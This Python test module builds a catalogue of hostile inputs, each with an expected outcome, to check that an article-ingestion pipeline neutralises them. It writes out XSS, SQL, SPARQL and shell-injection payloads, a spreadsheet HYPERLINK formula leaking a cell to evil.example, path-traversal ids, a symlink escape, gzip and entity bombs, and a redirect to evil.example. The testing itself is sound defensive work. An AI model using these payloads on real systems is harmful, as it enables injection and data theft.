"""The hostile inputs: how the bytes of each are made, and what must come of it.

NAMED are the 68 of the project's list of hostile inputs; OWN are more. Everything is made by code when it is wanted.
"""

import base64
import gzip
import itertools
import json
import os
import socket
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from enum import StrEnum
from pathlib import Path

from tests.hostile.story import Story, story

RUN = "document.documentElement.dataset.pwned='yes';alert(1)"
EVIL = "http://evil.example/"
CHINESE = "港口工人昨天离开了城市并前往邻国的首都"
ARABIC = "غادرعمالالميناءالمدينةأمسوتوجهواإلىعاصمةالدولةالمجاورة"
# A wall of text that has neither a language nor a sentence.
MEGABYTE = 996_000
# Stories that must not be found.
LOST, SECRET = story(190), story(191)


class Outcome(StrEnum):
    """What becomes of an input. All but the last two give articles."""

    OK = "ok"
    DEDUPLICATED = "deduplicated"
    INERT = "inert"
    CLEANED = "cleaned"
    DECODED = "decoded"
    GUARDED = "guarded"
    CONTAINED = "contained"
    QUARANTINED = "quarantined"
    REFUSED = "refused"


@dataclass(frozen=True)
class Case:
    """An input in a folder of its own.

    `make` writes its files; `stories` are those that must be found, one an article; `reason` is in each warning;
    `shows` must be in a literal of the graph as it is, and `lacks` in none; `encoding` is recorded for its articles.
    `is_big` is whether it takes seconds, so that it is built only once.
    """

    name: str
    outcome: Outcome
    make: Callable[[Path], object]
    stories: tuple[Story, ...] = ()
    reason: str = ""
    shows: tuple[str, ...] = ()
    lacks: tuple[str, ...] = ()
    encoding: str = "utf-8"
    is_big: bool = False


@dataclass
class _Book:
    """The cases in the order in which they are added."""

    cases: list[Case] = field(default_factory=list)
    _numbers: Iterator[int] = field(default_factory=itertools.count)

    def story(self) -> Story:
        """A story that no other case has."""
        return story(next(self._numbers))

    def add(self, name: str, outcome: Outcome, make: Callable[[Path], object], *stories: Story, **told: object) -> None:
        self.cases.append(Case(name, outcome, make, stories, **told))  # type: ignore[arg-type]

    # --- common kinds -------------------------------------------------------------------------------------------------
    def text(self, name: str, outcome: Outcome, *hostile: str, file: str = "article.txt", **told: object) -> None:
        """A text file in UTF-8 with hostile paragraphs."""
        made = self.story()
        self.add(name, outcome, lambda f: _write(f / file, made.text(*hostile)), made, **told)

    def jsonl(self, name: str, outcome: Outcome, lines: Sequence[str], *stories: Story, **told: object) -> None:
        """A file of JSON Lines."""
        self.add(name, outcome, lambda f: _lines(f, *lines), *stories, **told)

    def raw(self, name: str, outcome: Outcome, data: Callable[[Story], bytes], file: str, **told: object) -> None:
        """A file of any bytes that holds one story."""
        made = self.story()
        self.add(name, outcome, lambda f: (f / file).write_bytes(data(made)), made, **told)

    def inert(self, name: str, payload: str, *, shows: str | None = None, **told: object) -> None:
        """A payload in every field of one article, and as the name of somebody in a second one that has tokens."""
        one, two = self.story(), self.story()
        lines = (
            one.line(*_around(payload), id=f"{name} {payload}", title=payload, url=payload, publisher=payload),
            two.line(
                text=None, id=f"{name}-tokens", title=f"On {payload}",
                tokens=two.tokens([payload, "visited", "Peru", "."], ["Peru", payload, payload, "."]),
            ),
        )  # fmt: skip
        shown = (payload, f"On {payload}") if shows is None else (shows,)
        self.jsonl(name, Outcome.INERT, lines, one, two, shows=shown, **told)

    def nothing(self, name: str, make: Callable[[Path], object], reason: str, **told: object) -> None:
        """An input that gives no article."""
        self.add(name, Outcome.QUARANTINED, make, reason=reason, **told)


def _around(payload: str) -> tuple[str, ...]:
    return (
        f"The newspaper printed {payload} on its first page.",
        f"“{payload},” said the editor of the newspaper.",
        f"Walter {payload} Ashby left Norway.",
        f"The printer founded {payload} in Norway.",
    )


def _write(path: Path, text: str, *, encoding: str = "utf-8") -> None:
    path.write_bytes(text.encode(encoding))


def _lines(folder: Path, *lines: str, end: str = "\n") -> None:
    (folder / "articles.jsonl").write_bytes((("\n".join(lines)) + end).encode("utf-8"))


# --- the 68 of the list -----------------------------------------------------------------------------------------------
def _harmless(book: _Book) -> None:
    one, two = book.story(), book.story()
    lines = (one.line(id="blank-1"), "", "   ", two.line(id="blank-2"), "")
    book.jsonl("empty-jsonl-line", Outcome.OK, lines, one, two)
    book.raw("crlf", Outcome.OK, lambda s: s.text("All was calm.").replace("\n", "\r\n").encode(), "article.txt")
    book.raw("cr-only", Outcome.OK, lambda s: s.text("All was calm.").replace("\n", "\r").encode(), "article.txt")
    book.raw("utf8-bom", Outcome.OK, lambda s: b"\xef\xbb\xbf" + s.text().encode(), "article.txt", lacks=("\ufeff",))
    split = book.story()
    line = split.line(id="u2028", text=split.text("The mayor\u2028spoke.\u2029The crowd\u0085left.", gap="\u2028"))
    book.jsonl("u2028-in-jsonl", Outcome.OK, [line], split)
    family = "👩\u200d👩\u200d👧\u200d👦"
    book.text("zwj-emoji", Outcome.OK, f"The painter named the picture “{family}”.", f"{family} visited Norway.")
    book.text("combining-marks", Outcome.OK, "Jose\u0301 A\u0301lvarez left Norway.", "The cafe\u0301 closed.")
    book.text("cjk-no-spaces", Outcome.OK, f"The banner read “{CHINESE * 16}”.")
    book.text("rtl-arabic", Outcome.OK, f"The banner read “{ARABIC * 6}”.")
    one, two = book.story(), book.story()
    ends = (one.line(id="end-1"), two.line(id="end-2"))
    book.add("no-final-newline", Outcome.OK, lambda f: _lines(f, *ends, end=""), one, two)


def _deduplicated(book: _Book) -> None:
    same = book.story()

    def copies(folder: Path) -> None:
        _write(folder / "first.txt", same.text("All was calm."))
        _write(folder / "second.txt", same.text("All was calm."))
        _lines(folder, same.line("All was calm.", id="third"))

    book.add("duplicate-content", Outcome.DEDUPLICATED, copies, same)
    one, two = book.story(), book.story()
    lines = (one.line(id="one-id"), two.line(id="one-id"))
    book.jsonl("duplicate-id-different-text", Outcome.DEDUPLICATED, lines, one, two)
    edited = book.story()
    versions = [
        edited.line("The harbour is open.", id="edited", title="A visit to Chile", date="2021-05-04"),
        edited.line("The harbour is closed again.", id="edited", title="A visit to Chile", date="2021-05-05"),
    ]
    book.jsonl("same-title-edited", Outcome.DEDUPLICATED, versions, edited, edited)


def _inert(book: _Book) -> None:
    book.inert("script-tag", f"<script>{RUN}</script>")
    book.inert("img-onerror", f'<img src=x onerror="{RUN}">')
    book.inert("svg-onload", f"<svg onload={RUN}>")
    book.inert("close-script", f"</script><script>{RUN}</script>")
    book.inert("href-title", f'<a href="javascript:{RUN}" title="Press">Press</a>')
    book.inert("attribute-break", f'" onmouseover="{RUN}" onfocus=\'{RUN}\' autofocus x="\'')
    book.inert("javascript-url", f"javascript:{RUN}//")
    book.inert(
        "template-braces", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %} {{constructor.constructor('alert(1)')()}}"
    )
    book.inert("csv-formula", '=HYPERLINK("http://evil.example/?x="&A1,"Press")')
    book.inert(
        "osc-escape", "\x1b]0;pwned\x07\x1b]8;;http://evil.example/\x1b\\Press", shows="pwned", lacks=("\x1b", "\x07")
    )
    book.inert("ansi-clear", "\x1b[2J\x1b[H\x1b[31mpwned", shows="pwned", lacks=("\x1b",))
    book.inert("turtle-breakout", f'" . <{EVIL}s> <{EVIL}p> <{EVIL}o> . #')
    book.inert("newline-ending-backslash-quote", 'two\nlines \\"\\', shows='\\"\\')
    book.inert("triple-quote", '"""\'\'\' . """')
    book.inert("sparql-breakout", f'" }} ; DROP ALL ; INSERT DATA {{ <{EVIL}s> <{EVIL}p> "x')
    book.inert("ordinal-ª-º-µ", "Mª Josefa 1º µ")
    book.inert("iri-space", f'{EVIL}a b<c>{{d}}|e^f`g\\h"i')
    context = json.dumps({"@context": f"{EVIL}context.jsonld", "@id": f"{EVIL}x", "@graph": []})
    book.inert("jsonld-context-in-text", context)


def _cleaned(book: _Book) -> None:
    def dirty(name: str, characters: str, **told: object) -> None:
        words = f"The harbour{characters}master closed the{characters} gate."
        book.text(name, Outcome.CLEANED, words, lacks=tuple(set(characters)), **told)

    dirty("nul", "\x00")
    dirty("c0-controls", "".join(map(chr, (*range(1, 9), 11, *range(14, 32)))))
    dirty("c1-controls", "".join(map(chr, (0x7F, *range(0x80, 0x85), *range(0x86, 0xA0)))))
    lone = book.story()
    line = json.dumps({"id": "lone", "text": lone.text("The harbour\ud800 closed.\udfff"), "title": "\udc80 Harbour"})
    book.jsonl("lone-surrogate", Outcome.CLEANED, [line], lone)
    dirty("fffe", "\ufffe\uffff\ufdd0")
    dirty("bidi-override", "\u202e\u202d")
    dirty("bidi-isolate-unclosed", "\u2066\u2067\u2068")
    dirty("tag-characters", "".join(chr(0xE0000 + ord(c)) for c in "attack"))
    pile = "\u0301\u0327"
    book.text("10k-combining", Outcome.CLEANED, f"The harbour e{pile * 5_000} closed.", lacks=(pile * 50,))


def _decoded(book: _Book) -> None:
    russian = "The banner read “Работники порта покинули город и уехали в столицу” – and “Мы вернёмся домой”."
    book.raw("cp1251", Outcome.DECODED, lambda s: s.text(russian).encode("cp1251"), "article.txt", encoding="cp1251")
    french = "The banner read “Le café est fermé”."
    for name, codec, mark in (("utf16-le-bom", "utf-16-le", b"\xff\xfe"), ("utf16-be-bom", "utf-16-be", b"\xfe\xff")):
        book.raw(
            name, Outcome.DECODED, lambda s, c=codec, m=mark: m + s.text(french).encode(c), "article.txt",
            encoding=codec, lacks=("\ufeff",),
        )  # fmt: skip
    page = "The cafe is “fermé” today, and the naïve façade of the café is à louer, the mayor of the town wrote."
    book.raw(
        "latin1-meta-mismatch", Outcome.DECODED, lambda s: _html(s, page, charset="iso-8859-1").encode("utf-8"),
        "article.html", shows=("“fermé”",),
    )  # fmt: skip


def _html(made: Story, *paragraphs: str, charset: str = "utf-8", head: str = "", attributes: str = "") -> str:
    """A page as newspapers have it, around a story."""
    filler = "The town was calm on Monday, and most of the shops along the harbour opened as usual in the morning."
    body = "".join(f"<p>{p}</p>" for p in (made.visit, filler, *paragraphs, filler, made.claim))
    return (
        f'<!DOCTYPE html><html lang="en"{attributes}><head><meta charset="{charset}"><title>A visit to Chile</title>{head}'
        f"</head><body><nav><a href='/'>Home</a></nav><article><h1>A visit to Chile</h1>{body}</article></body></html>"
    )


def _guarded(book: _Book) -> None:
    text = "https://example.org/news/{:07d}?q=harbour "
    urls = "".join(text.format(n) for n in range(MEGABYTE // len(text.format(0)) + 1))[:MEGABYTE]
    walls = {
        "100k-parens": "(" * 100_000,
        "100k-dollars": "$" * 100_000,
        "100k-emoji": "😀" * 100_000,
        "100k-quotes": '"' * 100_000,
        "1MB-base64": base64.b64encode(bytes(i * i % 251 for i in range(MEGABYTE * 3 // 4))).decode(),
        "1MB-urls": urls,
    }
    for name, wall in walls.items():
        book.text(name, Outcome.GUARDED, wall, is_big=True)


def _quarantined(book: _Book) -> None:
    def file(name: str, reason: str, path: str, data: bytes | Callable[[], bytes], **told: object) -> None:
        book.nothing(
            name, lambda f: (f / path).write_bytes(data if isinstance(data, bytes) else data()), reason, **told
        )

    def json_line(name: str, reason: str, line: str) -> None:
        file(name, reason, "articles.jsonl", line.encode() + b"\n")

    file("empty", "no text", "article.txt", b"")
    file("whitespace-only", "no text", "article.txt", " \t\r\n\u00a0\u3000\n".encode())
    damaged = LOST.text("The café closed.").encode().replace(b"\xc3\xa9", b"\xc3")
    # A text in UTF-8 with one byte gone: no other encoding may be guessed for it.
    file("invalid-utf8", "byte", "article.txt", "The “harbour” – a café.\n".encode() + damaged)
    picture = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40
    file("binary-png", "", "picture.txt", picture)
    book.nothing("100MB-line", _line_of_100_mb, "MB", is_big=True)
    sentence = "The harbour was calm on Monday. "
    file("2M-chars", "longer than", "article.txt", lambda: (sentence * (2_000_000 // len(sentence))).encode())
    json_line("json-deep", "JSON", '{"text": ' + "[" * 100_000 + "]" * 100_000 + "}")
    json_line("json-bigint", "", '{"text": "The harbour was calm.", "id": ' + "9" * 10_000 + "}")
    json_line("json-nan", "NaN", '{"text": "The harbour was calm.", "score": NaN}')
    json_line("json-truncated", "JSON", '{"text": "The harbour was calm on Mon')
    json_line("json-not-object", "a list", '["The harbour was calm on Monday."]')
    many = "".join(f" a{i}" for i in range(200_000))
    file("html-200k-attributes", "", "article.html", lambda: _html(LOST, attributes=many).encode(), is_big=True)
    nested = "<div>" * 100_000
    file("html-100k-nested", "", "article.html", lambda: _html(LOST, nested).encode(), is_big=True)
    # Members of a gzip file may simply follow one another: a gigabyte is made of one megabyte packed once.
    member = gzip.compress(b" " * (1 << 20))
    file("gzip-bomb", "", "articles.jsonl.gz", lambda: member * 1_024, is_big=True)


def _line_of_100_mb(folder: Path) -> None:
    with (folder / "articles.jsonl").open("wb") as out:
        out.write(b'{"text": "')
        for _ in range(100):
            out.write(b"harbour " * (1 << 17))
        out.write(b'"}\n')


def _contained(book: _Book) -> None:
    def with_id(name: str, id_: str, **told: object) -> None:
        made = book.story()
        line = made.line(id=id_, title=id_)
        book.jsonl(name, Outcome.CONTAINED, [line], made, shows=(id_,), **told)

    with_id("id-dotdot", "../../../../../../tmp/kg-hostile-dotdot")
    with_id("id-absolute", "/tmp/kg-hostile-absolute")
    with_id("id-300-chars", "x" * 300)
    secret = SECRET

    def link(folder: Path) -> None:
        outside = folder.parent.parent / "outside"
        outside.mkdir(exist_ok=True)
        _write(outside / "secret.txt", secret.text("The password is open sesame."))
        (folder / "link.txt").symlink_to(outside / "secret.txt")
        (folder / "linked").symlink_to(outside, target_is_directory=True)

    book.add(
        "symlink-out-of-corpus", Outcome.REFUSED, link, reason="a link",
        lacks=(secret.visitor, "open sesame"),
    )  # fmt: skip


# --- our own ----------------------------------------------------------------------------------------------------------
def _markup(book: _Book) -> None:
    book.inert("double-encoded-entities", f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt; &lt;b&gt; &#60;i&#62;")
    book.inert("close-style", f"</style></title></textarea></noscript><script>{RUN}</script>")
    book.inert("cdata", f"]]><![CDATA[ ]]><script>{RUN}</script> <?php echo 1 ?> <!DOCTYPE x [<!ENTITY e 'x'>]> &e;")
    book.inert("comment-open", f"<!--<script>--><!-- --!><script>{RUN}</script><!--")
    book.inert("svg-foreign-object", f"<svg><foreignObject><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>")
    book.inert("data-url", f"data:text/html,<script>{RUN}</script>")
    book.inert("vbscript-url", "vbscript:msgbox(1)")
    book.inert("url-disguised", f"\u0001 java\tscript:{RUN}", shows="script:")
    book.inert("remote-image", f'<img src="{EVIL}a.png"><link rel=stylesheet href="{EVIL}a.css"> ![x]({EVIL}b.png)')
    book.inert("rich-markup", f"[red]x[/red] [link={EVIL}]press[/link] :boom: [@click=app.bell]")
    book.inert("prototype", "__proto__")
    book.inert("constructor", "constructor")
    book.inert(
        "names-of-kg", "https://example.org/kg/ontology#Claim <https://example.org/kg/entity/Chile> kg:Asserted e:Chile"
    )
    book.inert("percent-encoding", "%2e%2e%2f%00%0a%3cscript%3e %E0%A4%A")
    book.inert("sql-breakout", "'); DROP TABLE article; --")
    book.inert("shell", "$(touch pwned) `touch pwned` ; touch pwned | touch pwned && touch pwned")
    book.inert("formula-disguised", "\uff1d1+1;=1+1\t=1+1")
    book.inert("conllu-breakout", "x\n\n# newdoc id = pwned\n1\tx\tx\tX", shows="# newdoc id = pwned")


def _names(book: _Book) -> None:
    book.text("homoglyphs", Outcome.INERT, "Wаlter Аshby visited Norway.", "Walter Ashby visited Spain.")
    book.text("zwj-in-name", Outcome.INERT, "Wal\u200dter Ash\u200bby visited Norway.", "The harbour is calm.")
    book.text("rtl-mark-in-name", Outcome.INERT, "Walter\u200f Ash\u200eby visited Norway.", lacks=("\u202e",))
    book.text(
        "case-and-normalisation", Outcome.INERT,
        "José Ashby visited Norway. JOSÉ ASHBY visited Spain. Jose\u0301 Ashby visited Sweden. jose ashby left.",
    )  # fmt: skip


def _json_oddities(book: _Book) -> None:
    twice = book.story()
    doubled = '{"id": "first", "id": "twice", "text": "Old words.", "text": ' + json.dumps(twice.text()) + "}"
    book.jsonl("json-duplicate-keys", Outcome.OK, [doubled], twice, lacks=("Old words",))
    one, two = book.story(), book.story()
    lines = ("\ufeff" + one.line(id="bom-1"), "\ufeff" + two.line(id="bom-2"))
    book.jsonl("bom-inside-jsonl", Outcome.OK, lines, one, two, lacks=("\ufeff",))
    escapes = book.story()
    line = json.dumps({"id": "esc\u001b[2J\u0000", "title": "\u001b[2Jpwned\u0007", "text": escapes.text("\u009b31m.")})
    book.jsonl("json-escapes", Outcome.CLEANED, [line], escapes, lacks=("\x1b", "\x07", "\x9b", "\x00"))
    colliding = [book.story() for _ in range(4)]
    ids = ("a b", "a_b", "a/b", "A_b")
    many = [s.line(id=i, title=i) for s, i in zip(colliding, ids, strict=True)]
    book.jsonl("ids-that-collide", Outcome.OK, many, *colliding, shows=ids)
    reserved = [book.story() for _ in range(3)]
    words = [s.line(id=i) for s, i in zip(reserved, ("doc", ".", "current"), strict=True)]
    book.jsonl("reserved-ids", Outcome.CONTAINED, words, *reserved)
    newline = book.story()
    line = newline.line(id="two\n# newdoc id = pwned\nlines", title="two\nlines")
    book.jsonl("newline-in-id", Outcome.CONTAINED, [line], newline)
    zero = book.story()
    line = zero.line(id="date-zero", date="0000-00-00", title="Zero")
    book.jsonl("date-zero", Outcome.OK, [line], zero, lacks=("0000-00-00",))
    far = book.story()
    line = far.line(
        id="year-99999", text=f"date 99999-12-31 {far.text('It ends on 31 December 99999.')}", date="99999-12-31"
    )
    book.jsonl("year-99999", Outcome.OK, [line], far)
    long = book.story()
    line = long.line(id="long-url", url="https://example.org/" + "a" * 100_000, publisher="p" * 100_000)
    book.jsonl("long-url", Outcome.GUARDED, [line], long)
    wrong = (
        '{"text": 5}',
        '{"text": {"a": 1}}',
        '{"tokens": "words"}',
        '{"tokens": [["a", 5]]}',
        '"words"',
        "null",
        "{}",
    )
    book.nothing("json-wrong-types", lambda f: _lines(f, *wrong), "")


def _bytes_and_files(book: _Book) -> None:
    book.raw(
        "utf32", Outcome.DECODED, lambda s: b"\xff\xfe\x00\x00" + s.text("Café.").encode("utf-32-le"), "article.txt",
        encoding="utf-32-le",
    )  # fmt: skip
    bad = LOST.line(id="no-gzip").encode()
    book.nothing("no-gzip", lambda f: (f / "articles.jsonl.gz").write_bytes(bad), "")
    one, two = book.story(), book.story()
    members = b"".join(gzip.compress(f"{s.line(id=s.visitor)}\n".encode()) for s in (one, two))
    book.add("gzip-members", Outcome.OK, lambda f: (f / "articles.jsonl.gz").write_bytes(members), one, two)
    cut = gzip.compress((LOST.line(id="cut", text="The harbour was calm. " * 3_000) + "\n").encode())
    book.nothing("gzip-cut", lambda f: (f / "articles.jsonl.gz").write_bytes(cut[: len(cut) // 2]), "")
    book.nothing("arabic-article", lambda f: _write(f / "article.txt", _arabic()), "English")
    book.nothing("chinese-article", lambda f: _write(f / "article.txt", (CHINESE + "。\n") * 20), "English")
    _tables(book)
    _file_names(book)


def _arabic() -> str:
    return "\n\n".join(["غادر عمال الميناء المدينة أمس وتوجهوا إلى عاصمة الدولة المجاورة لحضور اجتماع مع الوزير."] * 8)


def _tables(book: _Book) -> None:
    def cell(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    good = book.story()
    rows = f"id,text\nbig,{cell('harbour ' * 260_000)}\nsmall,{cell(good.text())}\n"
    book.add("csv-2MB-field", Outcome.OK, lambda f: _write(f / "articles.csv", rows), good, reason="longer than")
    unclosed = 'id,text\na,"The harbour was calm\nb,The harbour was calm on Monday\n'
    book.nothing("csv-unclosed-quote", lambda f: _write(f / "articles.csv", unclosed), "")
    nul = book.story()
    with_nul = f"id,text\nnul,{cell(nul.text('The harbour' + chr(0) + 'master left.'))}\n"
    book.add("csv-nul", Outcome.CLEANED, lambda f: _write(f / "articles.csv", with_nul), nul, lacks=("\x00",))
    semicolons = book.story()
    other = f"id;title;text\nsemi;A visit, a claim;{cell(semicolons.text())}\n"
    book.add(
        "csv-semicolons",
        Outcome.OK,
        lambda f: _write(f / "articles.csv", other),
        semicolons,
        shows=("A visit, a claim",),
    )


def _file_names(book: _Book) -> None:
    names = {
        "name-newline": "two\nlines.txt",
        "name-quote": 'quo\'te "$(touch pwned)".txt',
        "name-emoji": "👩\u200d🚒.txt",
        "name-dash": "-rf.txt",
        "name-markup": f"<img src=x onerror={RUN.split(';', 1)[0]}>.txt",
        "name-rlo": "\u202etxt.exe.txt",
        "name-escape": "\x1b[2J\x1b]0;pwned\x07.txt",
        "name-formula": "=1+1.txt",
    }
    for name, file in names.items():
        book.text(name, Outcome.INERT, file=file, lacks=("\x1b", "\x07", "\u202e"))
    bytes_ = book.story()
    book.add("name-not-utf8", Outcome.INERT, lambda f: _write(f / os.fsdecode(b"caf\xe9.txt"), bytes_.text()), bytes_)

    def folder_as_file(folder: Path) -> None:
        (folder / "article.txt").mkdir()
        _write(folder / "article.txt" / "inner.txt", inner.text())

    inner = book.story()
    book.add("folder-named-txt", Outcome.OK, folder_as_file, inner)
    book.nothing("fifo", lambda f: os.mkfifo(f / "pipe.txt"), "")
    book.nothing("socket", _socket, "")
    book.nothing("device", lambda f: (f / "zero.txt").symlink_to("/dev/zero"), "")
    book.nothing("link-to-itself", lambda f: (f / "loop.txt").symlink_to("loop.txt"), "")
    if os.geteuid() != 0:  # root reads everything
        book.nothing("unreadable", _unreadable, "cannot be read")


def _socket(folder: Path) -> None:
    """A socket in the file system; a relative name, since the path of one may have but a hundred characters."""
    with socket.socket(socket.AF_UNIX) as made:
        here = Path.cwd()
        os.chdir(folder)
        try:
            made.bind("socket.txt")
        finally:
            os.chdir(here)


def _unreadable(folder: Path) -> None:
    _write(folder / "secret.txt", "The harbour was calm.")
    (folder / "secret.txt").chmod(0)


def _walls(book: _Book) -> None:
    book.text("500k-commas", Outcome.GUARDED, ", " * 250_000, is_big=True)
    book.text("20k-paragraphs", Outcome.GUARDED, *["Harbour"] * 20_000, is_big=True)
    book.text("3k-nested-quotes", Outcome.GUARDED, "“‘" * 1_500 + "calm" + "’”" * 1_500, is_big=True)
    book.text("5k-letters", Outcome.GUARDED, f"The word {'a' * 5_000} was printed.", f"The word {'ab-' * 2_000} too.")
    bomb = "".join(f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, 10))
    laughs = book.story()
    page = _html(laughs, "&l9;").replace("<!DOCTYPE html>", f'<!DOCTYPE html [<!ENTITY l0 "laugh">{bomb}]>')
    book.add("html-entity-bomb", Outcome.GUARDED, lambda f: _write(f / "article.html", page), laughs)
    active = book.story()
    head = f"<script>{RUN}</script><meta http-equiv=refresh content='0;url={EVIL}'><base href='{EVIL}'>"
    paragraphs = (
        f"The mayor <script>{RUN}</script><img src=x onerror={RUN}> left.",
        f"<style>@import '{EVIL}'</style>",
    )
    shown = _html(active, *paragraphs, head=head)
    book.add("html-active", Outcome.INERT, lambda f: _write(f / "article.html", shown), active, lacks=("alert(1)",))


def _book() -> tuple[tuple[Case, ...], tuple[Case, ...]]:
    book = _Book()
    for chapter in (_harmless, _deduplicated, _inert, _cleaned, _decoded, _guarded, _quarantined, _contained):
        chapter(book)
    named = len(book.cases)
    for chapter in (_markup, _names, _json_oddities, _bytes_and_files, _walls):
        chapter(book)
    return tuple(book.cases[:named]), tuple(book.cases[named:])


NAMED, OWN = _book()
CASES = NAMED + OWN
